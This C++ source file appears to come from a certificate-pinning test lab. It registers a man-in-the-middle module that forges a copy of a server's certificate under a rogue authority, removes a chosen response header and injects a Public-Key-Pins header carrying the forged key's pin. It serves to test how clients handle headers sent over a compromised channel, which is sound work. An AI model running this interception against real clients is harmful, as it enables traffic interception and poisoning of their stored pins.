// A rogue copy that edits the head of the answer: what a client believes of its server beyond this
// connection.
#include "attacks/registry.h"
#include "servers/pki/pin.h"

namespace pinlab::mitm {
namespace {

class AlterHeaders : public Impersonator {
  public:
    explicit AlterHeaders(const Arguments& arguments)
        : authority_(arguments["authority"]),
          key_(arguments["key"]),
          remove_(arguments["remove"]),
          add_(arguments["add"]) {}

    std::string on_response(std::string bytes) override {
        const std::size_t end = bytes.find("\r\n\r\n");
        if (!bytes.starts_with("HTTP/1.") || end == std::string::npos) return bytes;
        std::string head = bytes.substr(0, end + 2);
        const std::size_t line = remove_.empty() ? std::string::npos : head.find("\r\n" + remove_ + ":");
        if (line != std::string::npos) head.erase(line, head.find("\r\n", line + 2) - line);
        if (!add_.empty()) head += with_pin(add_) + "\r\n";
        return head + bytes.substr(end + 2);
    }

  private:
    std::string with_pin(std::string text) const {
        const std::size_t at = text.find("{pin}");
        return at == std::string::npos ? text : text.replace(at, 5, pin_);
    }

    pki::Identity make_identity(const std::vector<pki::Certificate>& chain,
                                const Forge& forge) const override {
        pki::Identity identity = forge.copy(chain.front(), authority_, key_);
        pin_ = pki::Pin::of(identity.leaf).to_string().substr(sizeof "sha256/" - 1);
        return identity;
    }

    std::string authority_;
    std::string key_;
    std::string remove_;
    std::string add_;
    mutable std::string pin_;  ///< of the leaf that was shown last, base64
};

PINLAB_ATTACK(
    AlterHeaders,
    {.name = "alter_headers",
     .summary = "a rogue copy that edits the head of the answer; changes response bytes and their number",
     .source = "RFC 7469 2.7 and 4.4; RFC 6797 14.4: headers over a bad channel prove nothing",
     .parameters = {{"authority", "rogue", "the CA that signs the copy"},
                    {"key", "attacker", "the key of the copy"},
                    {"remove", "", "the name of a header field to take out, spelled as it is sent"},
                    {"add", "Public-Key-Pins: pin-sha256=\"{pin}\"; max-age=5184000",
                     "a header line to put in; {pin} is the key of the copy"}},
     .changes_response = true,
     .changes_length = true});

}  // namespace
}  // namespace pinlab::mitm
